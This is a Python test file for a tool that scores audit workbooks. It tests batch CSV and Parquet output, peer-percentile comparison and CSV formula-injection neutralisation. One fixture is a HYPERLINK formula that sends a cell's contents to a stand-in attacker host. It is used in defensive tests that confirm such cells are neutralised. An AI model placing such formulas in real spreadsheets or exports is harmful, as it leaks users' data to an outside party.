"""`spi4xl batch` over a folder of audits (good and bad files), and `spi4xl compare` against the peers it wrote."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import math
import statistics
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

import spi4xl
from audits import CATALOG, random_audit
from spi4xl.assess import assess
from spi4xl.batch import find_audits, run_batch
from spi4xl.compare import percentile_rank
from spi4xl.errors import Spi4xlError
from spi4xl.workbook import layout as L
from spi4xl.workbook.read import read_audit
from spi4xl.workbook.render import render, sheet_names

GOOD = {  # name: (seed, language, fill, modules)
    "a-en.xlsx": (201, "en", 0.5, None),
    "b-fr.xlsx": (202, "fr", 0.8, None),
    "sub/c-es.xlsx": (203, "es", 1.0, None),
    "d-en-gender.xlsx": (204, "en", 0.65, ("gender",)),
}
BAD = ("corrupt.xlsx", "other-tool.xlsx", "notes.xlsx")
STANDING_KEYS = {"column", "kind", "code", "score", "peer_median", "peers", "percentile"}


def run(*args: object, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "spi4xl", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, timeout=300)


def same(a: object, b: object) -> bool:
    """Equal, with NaN and None both meaning 'no value'."""
    missing = lambda v: v is None or (isinstance(v, float) and math.isnan(v))
    if missing(a) or missing(b):
        return missing(a) and missing(b)
    if isinstance(a, (int, float)) and isinstance(b, (int, float)):
        return math.isclose(a, b, rel_tol=0, abs_tol=1e-12)
    return a == b


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("audits")
    (root / "sub").mkdir()
    for name, (seed, lang, fill, modules) in GOOD.items():
        render(CATALOG, lang, dataclasses.replace(random_audit(seed, lang, fill), modules=modules), root / name)
    good = (root / "a-en.xlsx").read_bytes()
    (root / "corrupt.xlsx").write_bytes(good[: len(good) // 3])
    book = openpyxl.Workbook()
    book.active.append(["Quarterly budget", 2026])
    book.save(root / "other-tool.xlsx")
    (root / "notes.xlsx").write_text("not a workbook, whatever its name says\n")
    (root / "~$a-en.xlsx").write_bytes(b"\0" * 165)  # Excel's lock file: not an audit, not an error either
    (root / "readme.txt").write_text("ignored")
    return root


@pytest.fixture(scope="module")
def results(folder, tmp_path_factory) -> tuple[Path, subprocess.CompletedProcess]:
    out = tmp_path_factory.mktemp("results") / "results.csv"
    return out, run("batch", folder, "--out", out, "--jobs", "1")


# --- batch --------------------------------------------------------------------------------------
@pytest.mark.slow
def test_batch_writes_one_row_per_good_audit_and_lists_the_bad_ones(folder, results):
    out, proc = results
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert f"wrote {out}: {len(GOOD)} audit(s), {len(BAD)} skipped" in proc.stdout
    skipped = [line for line in proc.stderr.splitlines() if line.startswith("skipped ")]
    assert len(skipped) == len(BAD)
    for name in BAD:
        (line,) = [s for s in skipped if s.startswith(f"skipped {folder / name} [")]
        with pytest.raises(Spi4xlError) as raised:
            assess(folder / name)
        err = raised.value  # the same error, code and message, as scoring the file alone
        assert line == f"skipped {folder / name} [{err.code}]: {err}"
    assert "~$" not in proc.stderr and "readme" not in proc.stderr

    frame = pd.read_csv(out)
    assert sorted(frame["file"]) == sorted(str(folder / name) for name in GOOD)
    for column in ("file", "language", "edition", "catalog_version", "profile", "organization", "country",
                   "assessment_type", "start_date", "end_date", "overall", "completion", "provisional", "answered",
                   "total", "alinus", "findings_error", "findings_warning", "findings_info"):
        assert column in frame.columns, column
    for row in frame.to_dict("records"):
        a = assess(row["file"])
        s, audit = a.scores, a.read.audit
        name = str(Path(row["file"]).relative_to(folder))
        assert (row["language"], row["edition"], row["profile"]) == (GOOD[name][1], CATALOG.edition, "full")
        expected = {"overall": s.overall.score, "completion": s.completion, "provisional": s.provisional,
                    "answered": s.overall.answered, "total": s.overall.total, "alinus": s.alinus.score}
        for prefix, units in (("dim", s.dimensions), ("std", s.standards), ("cp", s.client_protection),
                              ("module", s.modules)):
            expected.update({f"{prefix}_{code}": unit.score for code, unit in units.items()})
        expected.update({f"findings_{k}": v for k, v in a.counts.items()})
        for column, value in expected.items():
            assert same(row[column], value), (name, column, row[column], value)
        # a unit the audit has no indicators for is empty, not zero
        for column in frame.columns:
            if column.startswith("module_") and column[7:] not in s.modules:
                assert same(row[column], None), (name, column)
        assert s.overall.score == spi4xl.score(audit).overall.score


@pytest.mark.slow
def test_jobs_2_gives_the_same_table(folder, results, tmp_path):
    out, _ = results
    proc = run("batch", folder, "--out", tmp_path / "results.csv", "--jobs", "2", "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "results.csv").read_bytes() == out.read_bytes()
    # in process too
    files = find_audits(str(folder))
    written, skipped = run_batch(files, tmp_path / "in-process.csv", jobs=2)
    assert (written, sorted(p.name for p, _ in skipped)) == (len(GOOD), sorted(BAD))
    assert (tmp_path / "in-process.csv").read_bytes() == out.read_bytes()


@pytest.mark.slow
def test_parquet_output(folder, results, tmp_path):
    pytest.importorskip("pyarrow")
    out, _ = results
    proc = run("batch", folder, "--out", tmp_path / "results.parquet", "--quiet")
    assert proc.returncode == 0, proc.stderr
    parquet, csv = pd.read_parquet(tmp_path / "results.parquet"), pd.read_csv(out)
    assert list(parquet.columns) == list(csv.columns) and list(parquet["file"]) == list(csv["file"])
    for column in csv.columns:
        for a, b in zip(parquet[column], csv[column]):
            assert same(a, b) or str(a) == str(b), (column, a, b)


@pytest.mark.slow
def test_batch_sources_and_output_errors(folder, tmp_path):
    top = find_audits(str(folder / "*.xlsx"))  # a glob: only what it matches, lock files left out
    assert sorted(p.name for p in top) == sorted(n for n in [*GOOD, *BAD] if "/" not in n)
    assert [p.name for p in find_audits(str(folder))].count("c-es.xlsx") == 1  # a folder: recursively
    (tmp_path / "empty").mkdir()
    for args in (("batch", tmp_path / "empty", "--out", tmp_path / "r.csv"),
                 ("batch", folder, "--out", tmp_path / "results.json", "--quiet")):
        proc = run(*args)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr
        (line,) = proc.stderr.splitlines()
        assert line.startswith(("spi4xl: error [batch.no_audits]: ", "spi4xl: error [batch.out_format]: "))


# --- compare ------------------------------------------------------------------------------------
@pytest.mark.slow
def test_compare_prints_percentile_ranks_among_the_other_audits(folder, results):
    out, _ = results
    target = folder / "b-fr.xlsx"
    # the audit is named differently from the table (relative to another folder): still left out of its peers
    proc = run("compare", Path("..") / "b-fr.xlsx", "--peers", out, "--json", cwd=folder / "sub")
    assert proc.returncode == 0, proc.stderr
    standings = json.loads(proc.stdout)
    assert [s["kind"] for s in standings] == ["overall"] + ["dimension"] * 6 + ["principle"] * 7
    assert [s["column"] for s in standings] == ["overall"] + [f"dim_{n}" for n in range(1, 7)] + \
           [f"cp_CP{n}" for n in range(1, 8)]
    peers = pd.read_csv(out)
    others = peers[peers["file"] != str(target)]
    assert len(others) == len(GOOD) - 1
    scores = assess(target).scores
    for s in standings:
        assert set(s) == STANDING_KEYS
        values = [float(v) for v in others[s["column"]].dropna()]
        assert s["peers"] == len(values) == len(GOOD) - 1
        assert s["peer_median"] == pytest.approx(statistics.median(values))
        assert s["percentile"] == pytest.approx(percentile_rank(s["score"], values))
        assert 0 <= s["percentile"] <= 1
    assert standings[0]["score"] == scores.overall.score

    text = run("--lang", "en", "compare", target, "--peers", out)
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0].split()[-4:] == ["score", "median", "peers", "rank"]
    french = run("--lang", "fr", "compare", target, "--peers", out).stdout.splitlines()
    assert french[0].split()[-4:] == ["score", "médiane", "pairs", "rang"] and " global " in french[1]
    assert len(lines) == 1 + len(standings)
    for line, s in zip(lines[1:], standings):
        assert line.rstrip().endswith(f"{100 * s['percentile']:5.0f}%"), line
        assert f"{s['peers']:>6}" in line


@pytest.mark.slow
def test_compare_out_writes_a_peer_comparison_sheet(folder, results, tmp_path):
    out, _ = results
    src = folder / "a-en.xlsx"
    before = hashlib.sha256(src.read_bytes()).hexdigest()
    ranked = tmp_path / "ranked.xlsx"
    proc = run("compare", src, "--peers", out, "--out", ranked)
    assert proc.returncode == 0, proc.stderr
    assert hashlib.sha256(src.read_bytes()).hexdigest() == before
    standings = json.loads(run("compare", src, "--peers", out, "--json").stdout)
    book = CalamineWorkbook.from_path(str(ranked))
    assert sheet_names("en")["peers"] in book.sheet_names
    rows = book.get_sheet_by_name(sheet_names("en")["peers"]).to_python()
    assert rows[0][0] == L.PEERS.marker
    ids = [L.PEERS.columns[0].id, *rows[0][1:]]
    table = [dict(zip(ids, r)) for r in rows[2:]]
    assert len(table) == len(standings)
    for row, s in zip(table, standings):
        assert row["code"] == s["code"] and row["peers"] == s["peers"]
        for column in ("score", "peer_median", "percentile"):
            assert same(None if row[column] == "" else row[column], s[column]), (s["column"], column)
    assert read_audit(ranked) == read_audit(src)
    assert run("compare", src, "--peers", out, "--out", src).returncode == 1  # never over the input


@pytest.mark.slow
def test_compare_errors_are_one_line(folder, tmp_path):
    (tmp_path / "not-results.csv").write_text("a,b\n1,2\n")
    for peers in (tmp_path / "missing.csv", tmp_path / "not-results.csv"):
        proc = run("compare", folder / "a-en.xlsx", "--peers", peers)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr
        (line,) = proc.stderr.splitlines()
        assert line.startswith(("spi4xl: error [compare.no_peers]: ", "spi4xl: error [compare.no_overall]: "))
        assert peers.name in line


# --- percentile_rank ----------------------------------------------------------------------------
@pytest.mark.parametrize("value, peers, expected", [
    (0.5, [0.5], 0.5),  # a tie counts half
    (0.9, [0.1, 0.2, 0.3], 1.0),  # above everyone
    (0.0, [0.1, 0.2, 0.3], 0.0),  # below everyone
    (0.2, [0.1, 0.2, 0.3], 0.5),
    (0.25, [0.1, 0.2, 0.3, 0.4], 0.5),
    (0.3, [0.3, 0.3, 0.3, 0.3], 0.5),
    (0.3, [0.1, 0.3, 0.3, 0.9], 0.5),
    (1.0, [0.0, 0.5, 1.0, 1.0], 0.75),
    (0.7, [0.1, 0.2, 0.3, 0.9], 0.75),
    (0.0, [0.0], 0.5),
])
def test_percentile_rank(value, peers, expected):
    assert percentile_rank(value, peers) == pytest.approx(expected)


@pytest.mark.slow
def test_peer_median_of_an_even_number_of_peers_is_the_mean_of_the_middle_two(folder):
    from spi4xl.compare import compare

    scores = assess(folder / "a-en.xlsx").scores
    peers = pd.DataFrame({"file": ["p1", "p2", "p3", "p4"], "overall": [0.1, 0.2, 0.4, 0.9]})
    (overall, *rest) = compare(scores, peers)
    assert (overall.peers, overall.peer_median) == (4, pytest.approx(0.3))
    assert all(s.peers == 0 and s.peer_median is None and s.percentile is None for s in rest)  # no such columns


# --- CSV formula injection ------------------------------------------------------------------------
INJECTED = {"organization": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "country": "+33 1 23 45"}


@pytest.fixture(scope="module")
def injected(tmp_path_factory) -> Path:
    """Two audits whose file names and texts start like formulas (run from the folder: names as given)."""
    root = tmp_path_factory.mktemp("injected")
    audit = random_audit(301, "en", 0.6)
    render(CATALOG, "en", dataclasses.replace(audit, metadata={**audit.metadata, **INJECTED}), root / "=HYPERLINK(1).xlsx")
    render(CATALOG, "fr", random_audit(302, "fr", 0.9), root / "-2+3.xlsx")
    return root


def csv_cells(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_texts_that_start_like_formulas_are_neutralised_numbers_stay_numbers(injected, tmp_path):
    from spi4xl.batch import FORMULA_STARTS

    proc = run("batch", ".", "--out", tmp_path / "results.csv", "--quiet", cwd=injected)
    assert proc.returncode == 0, proc.stderr
    rows = {row["file"]: row for row in csv_cells(tmp_path / "results.csv")}
    assert set(rows) == {"'=HYPERLINK(1).xlsx", "'-2+3.xlsx"}
    row = rows["'=HYPERLINK(1).xlsx"]
    assert row["organization"] == "'" + INJECTED["organization"] and row["country"] == "'" + INJECTED["country"]
    for row in rows.values():
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
        assert 0 <= float(row["overall"]) <= 1 and float(row["answered"]) > 0 and row["provisional"] in ("True", "False")
    # --raw writes them as they are; Parquet keeps every value as it is
    raw = run("batch", ".", "--out", tmp_path / "raw.csv", "--quiet", "--raw", cwd=injected)
    assert raw.returncode == 0, raw.stderr
    raw_rows = {row["file"]: row for row in csv_cells(tmp_path / "raw.csv")}
    assert raw_rows["=HYPERLINK(1).xlsx"]["organization"] == INJECTED["organization"]
    pytest.importorskip("pyarrow")
    assert run("batch", ".", "--out", tmp_path / "results.parquet", "--quiet", cwd=injected).returncode == 0
    parquet = pd.read_parquet(tmp_path / "results.parquet").set_index("file")
    assert parquet.loc["=HYPERLINK(1).xlsx", "organization"] == INJECTED["organization"]
    assert parquet.loc["=HYPERLINK(1).xlsx", "country"] == INJECTED["country"]


def test_compare_reads_back_the_names_it_neutralised(injected, tmp_path):
    assert run("batch", ".", "--out", tmp_path / "results.csv", "--quiet", cwd=injected).returncode == 0
    proc = run("compare", "=HYPERLINK(1).xlsx", "--peers", tmp_path / "results.csv", "--json", cwd=injected)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)[0]["peers"] == 1  # the audit itself left out, the other one counted


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_each_formula_start(text):
    from spi4xl.batch import neutralise, restore

    assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise("Plain text") == "Plain text" and neutralise(-1.5) == -1.5 and neutralise(None) is None
    assert restore("'quoted on purpose") == "'quoted on purpose"
